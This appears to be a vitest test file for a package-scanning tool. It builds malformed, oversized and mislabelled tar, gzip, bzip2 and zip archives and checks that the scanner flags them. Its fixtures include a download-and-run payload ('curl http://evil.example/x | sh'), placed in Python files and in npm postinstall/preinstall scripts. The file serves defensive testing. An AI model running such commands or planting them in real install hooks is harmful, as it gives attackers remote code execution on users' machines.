/**
 * Hostile archive structure: huge entry counts and depths, non-UTF-8 names, truncated and corrupt data in
 * every supported format, formats that lie about themselves, concatenated gzip members, npm tarballs
 * with odd top folders, and zip entries that cannot be read (LZMA, unknown methods, encryption).
 */
import { deflateRawSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { DEFAULT_UNPACK_LIMITS } from '../../src/model/index.js';
import { unpackArtifact } from '../../src/unpack/index.js';
import { tarArchive, paxHeader, tarHeader } from '../unpack/tar-builder.js';
import { zipArchive } from '../unpack/zip-builder.js';
import { decide, expectFails, fileText, note, paths, printSummary } from './harness.js';

printSummary('archives');

const PAYLOAD = 'import os\nos.system("curl http://evil.example/x | sh")\n';
const SETUP = { name: 'demo-1.0/setup.py', body: 'from setuptools import setup\nsetup(name="demo", version="1.0")\n' };
const META = { name: 'demo-1.0.dist-info/METADATA', data: 'Name: demo\nVersion: 1.0\n' };

/** The bzip2 sdist of test/unpack/bzip2.test.ts (made once with Python's tarfile + bz2). */
const SDIST_TAR_BZ2 = Buffer.from(
  'QlpoOTFBWSZTWWZwpI4AAJl/gcqQBABA4/+CIoSDAOYj3iAAAQgIIACSCUpG0T1NMQNqDRieUNND2oJJFHqPUyBiek0NAGjIH74a' +
    'RzDZGABsSSEUVXmwiFcs5MREIYCiT1t3Xy914GU7QfMWDAt5OOBHLo8RGFpDg1LsbpBxeOaTslbCEz5ILxd50MNIvpnxIk74/k/k' +
    'UUquFPD6pjW2koNwo04CIGYu5IpwoSDM4Ukc',
  'base64',
);

describe('size of the structure', () => {
  it('100,000 entries: reading stops at the entry limit, reported and failed', async () => {
    const header = tarHeader({ name: 'x', size: 0 });
    const blocks: Buffer[] = [];
    for (let i = 0; i < 100_000; i++) {
      const h = Buffer.from(header);
      h.fill(0, 0, 100);
      h.write(`demo-1.0/f${i}.txt`, 0, 'latin1');
      h.fill(0x20, 148, 156);
      let sum = 0;
      for (const byte of h) sum += byte;
      h.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
      blocks.push(h);
    }
    const d = await decide('100k entries', gzipSync(tarArchive([...blocks, SETUP])), 'demo-1.0.tar.gz');
    expect(d.contents.skipped.map((s) => s.reason)).toContain('too-many-entries');
    expect(d.contents.files.length).toBe(DEFAULT_UNPACK_LIMITS.maxEntries);
    expectFails(d);
  });

  it('10,000-deep folders: the file is kept and inspected, nothing overflows', async () => {
    const deep = `demo-1.0/${'d/'.repeat(10_000)}evil.py`;
    const tar = gzipSync(tarArchive([SETUP, paxHeader({ path: deep }), { name: 'demo-1.0/placeholder', body: PAYLOAD }]));
    const d = await decide('10k-deep folders', tar, 'demo-1.0.tar.gz');
    expect(paths(d.contents)).toContain(`${'d/'.repeat(10_000)}evil.py`);
    expect(d.contents.error).toBeUndefined();
  });

  it('non-UTF-8 names (tar latin-1 bytes, zip CP437) are kept under a decoded name, not dropped', async () => {
    const tar = gzipSync(tarArchive([SETUP, { name: Buffer.from('demo-1.0/caf\xe9\xff.py', 'latin1'), body: PAYLOAD }]));
    const t = await decide('non-utf8 tar', tar, 'demo-1.0.tar.gz');
    expect(t.contents.files).toHaveLength(2);
    const zip = zipArchive([{ name: Buffer.from([0x64, 0x2f, 0x82, 0xff, 0x2e, 0x70, 0x79]), data: PAYLOAD }, META]);
    const z = await decide('non-utf8 zip', zip, 'demo-1.0-py3-none-any.whl');
    expect(paths(z.contents)).toContain('d/é\u00a0.py');
  });
});

describe('truncated and corrupt archives', () => {
  const tar = tarArchive([SETUP, { name: 'demo-1.0/demo/__init__.py', body: PAYLOAD.repeat(50) }]);
  const cases: [string, () => Buffer, string][] = [
    ['tar cut mid-file', () => tar.subarray(0, 1024 + 700), 'demo-1.0.tar'],
    ['tar with a bad header checksum', () => tarArchive([SETUP, { name: 'demo-1.0/x.py', body: PAYLOAD, badChecksum: true }]), 'demo-1.0.tar'],
    ['gzip cut in half', () => { const g = gzipSync(tar); return g.subarray(0, g.length >> 1); }, 'demo-1.0.tar.gz'],
    ['gzip with flipped deflate bytes', () => { const g = Buffer.from(gzipSync(tar)); g.fill(0xff, 40, 60); return g; }, 'demo-1.0.tar.gz'],
    ['gzip with a wrong CRC', () => { const g = Buffer.from(gzipSync(tar)); g.writeUInt32LE(0, g.length - 8); return g; }, 'demo-1.0.tar.gz'],
    ['bzip2 cut in half', () => SDIST_TAR_BZ2.subarray(0, SDIST_TAR_BZ2.length >> 1), 'demo-1.0.tar.bz2'],
    ['bzip2 with flipped bytes', () => { const b = Buffer.from(SDIST_TAR_BZ2); b.fill(0x55, 30, 60); return b; }, 'demo-1.0.tar.bz2'],
    ['zip without its central directory', () => { const z = zipArchive([{ name: 'demo/__init__.py', data: PAYLOAD }, META]); return z.subarray(0, z.length - 40); }, 'demo.whl'],
    ['zip with corrupt deflate data', () => zipArchive([{ name: 'demo/__init__.py', data: PAYLOAD, compressed: Buffer.alloc(40, 0xff), declaredSize: PAYLOAD.length }, META]), 'demo.whl'],
    ['zip with an end record pointing past the file', () => { const z = Buffer.from(zipArchive([{ name: 'a.py', data: PAYLOAD }])); z.writeUInt32LE(0x7fffffff, z.length - 6); return z; }, 'demo.whl'],
    ['empty input', () => Buffer.alloc(0), 'demo-1.0.tar.gz'],
    ['random bytes', () => Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 251)), 'demo-1.0.tar.gz'],
    ['xz (unsupported)', () => Buffer.from('fd377a585a000004e6d6b446', 'hex'), 'demo-1.0.tar.xz'],
  ];
  for (const [label, make, filename] of cases) {
    it(`${label}: reported with the archive named, and failed`, async () => {
      const d = await decide(label, make(), filename);
      expect(d.contents.error).toMatch(new RegExp(`^${filename.replace(/\./g, '\\.')}: `));
      expect(d.rules).toContain('customs/uninspectable');
      expectFails(d);
    });
  }
});

describe('formats that lie, and concatenated members', () => {
  it('a ".tar.gz" that is really a zip is read as a zip', async () => {
    const d = await decide('zip named tar.gz', zipArchive([{ name: 'demo/__init__.py', data: PAYLOAD }, META]), 'demo-1.0.tar.gz');
    expect(d.contents.format).toBe('zip');
    expect(fileText(d.contents, 'demo/__init__.py')).toBe(PAYLOAD);
    expectFails(d);
  });

  it('a ".whl" that is really a tar.gz is read as a tar.gz', async () => {
    const d = await decide('tgz named whl', gzipSync(tarArchive([SETUP, { name: 'demo-1.0/demo/__init__.py', body: PAYLOAD }])), 'demo-1.0-py3-none-any.whl');
    expect(d.contents.format).toBe('tar.gz');
    expect(fileText(d.contents, 'demo/__init__.py')).toBe(PAYLOAD);
    expectFails(d);
  });

  it('a tar split over two concatenated gzip members is read whole (gzip and tarfile read both)', async () => {
    const tar = tarArchive([SETUP, { name: 'demo-1.0/demo/__init__.py', body: PAYLOAD }]);
    const joined = Buffer.concat([gzipSync(tar.subarray(0, 1024)), gzipSync(tar.subarray(1024))]);
    const d = await decide('concatenated gzip', joined, 'demo-1.0.tar.gz');
    expect(d.contents.error).toBeUndefined();
    expect(fileText(d.contents, 'demo/__init__.py')).toBe(PAYLOAD);
    expectFails(d);
  });

  it('200 concatenated gzip members (the stream path) are all read', async () => {
    const members = Array.from({ length: 200 }, (_, i) => tarArchive([{ name: `demo-1.0/m${i}.txt`, body: `${i}\n` }], { end: false }));
    const parts = [...members.map((m) => gzipSync(m)), gzipSync(Buffer.alloc(1024))];
    const contents = await unpackArtifact(Buffer.concat(parts), 'demo-1.0.tar.gz');
    expect(contents.error).toBeUndefined();
    expect(contents.files).toHaveLength(200);
  });
});

describe('npm tarballs with odd top folders (npm strips the first component of every member)', () => {
  const pkg = (scripts: Record<string, string>): string => JSON.stringify({ name: 'demo', version: '1.0.0', scripts });

  it('top folder not named package/: still an npm package, its install script inspected', async () => {
    const tgz = gzipSync(tarArchive([
      { name: 'node/package.json', body: pkg({ postinstall: 'node install.js' }) },
      { name: 'node/install.js', body: 'require("child_process").exec("curl http://evil.example/x | sh")\n' },
    ]));
    const d = await decide('npm odd top', tgz, 'demo-1.0.0.tgz', 'npm');
    expect(paths(d.contents)).toEqual(['install.js', 'package.json']);
    expect(d.inspection.kind).toBe('npm-tarball');
    expectFails(d);
  });

  it('several top folders: every member loses its own first component, the last of a path wins', async () => {
    const tgz = gzipSync(tarArchive([
      { name: 'package/package.json', body: pkg({ test: 'echo ok' }) },
      { name: 'package/index.js', body: 'module.exports = 1;\n' },
      { name: 'other/package.json', body: pkg({ preinstall: 'node lib/run.js' }) },
      { name: 'third/lib/run.js', body: 'require("child_process").execSync("curl http://evil.example/x | sh")\n' },
      { name: 'stray.js', body: 'never installed\n' },
    ]));
    for (const ecosystem of ['npm', undefined] as const) {
      const d = await decide(`npm several tops (${ecosystem ?? 'guessed'})`, tgz, 'demo-1.0.0.tgz', ecosystem);
      expect(paths(d.contents)).toEqual(['index.js', 'lib/run.js', 'package.json']);
      expect(fileText(d.contents, 'package.json')).toContain('preinstall');
      expect(d.contents.skipped.map((s) => `${s.reason}:${s.archivePath}`).sort()).toEqual([
        'duplicate-entry:package/package.json',
        'unreadable:stray.js',
      ]);
      expect(d.inspection.kind).toBe('npm-tarball');
      expectFails(d);
    }
  });

  it('an sdist with several top folders keeps its paths (pip strips only a common leading folder)', async () => {
    const tgz = gzipSync(tarArchive([SETUP, { name: 'other/package.json', body: '{}' }]));
    const contents = await unpackArtifact(tgz, 'demo-1.0.tar.gz');
    expect(paths(contents)).toEqual(['demo-1.0/setup.py', 'other/package.json']);
  });
});

describe('zip entries that cannot be read', () => {
  const methods: [string, { method: number; flags?: number }][] = [
    ['LZMA (method 14)', { method: 14 }],
    ['an unknown method (99, AES)', { method: 99 }],
    ['zipcrypto encryption', { method: 8, flags: 0x1 }],
  ];
  for (const [label, how] of methods) {
    it(`${label}: reported unreadable and failed`, async () => {
      const compressed = Buffer.from(deflateRawSync(PAYLOAD));
      const zip = zipArchive([{ name: 'demo/__init__.py', data: PAYLOAD, compressed, ...how }, META]);
      const d = await decide(`zip ${label}`, zip, 'demo-1.0-py3-none-any.whl');
      expect(d.contents.files.map((f) => f.path)).not.toContain('demo/__init__.py');
      expect(d.contents.skipped.map((s) => s.reason)[0]).toMatch(/unreadable|encrypted/);
      expect(d.rules).toContain('customs/uninspectable');
      expectFails(d);
    });
  }

  it('bzip2 (method 12), which zipfile reads, is read and inspected', async () => {
    const start = performance.now();
    const bz = SDIST_TAR_BZ2; // any bzip2 stream: its output is the entry's bytes
    const zip = zipArchive([{ name: 'demo/data.tar', data: '', compressed: bz, method: 12, declaredSize: 10240 }, META]);
    const contents = await unpackArtifact(zip, 'demo-1.0-py3-none-any.whl');
    note('zip bzip2', performance.now() - start);
    expect(contents.skipped).toEqual([]);
    expect(contents.files.find((f) => f.path === 'demo/data.tar')?.size).toBe(10240);
  });
});
